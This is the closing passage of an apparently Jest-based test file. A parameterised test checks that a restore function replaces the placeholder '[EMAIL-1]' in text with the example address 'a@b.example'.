  ])('what is none in the text is none: %s', (text) => {
    expect(restored(text)).toBe(text.replaceAll('[EMAIL-1]', 'a@b.example'));
  });
});
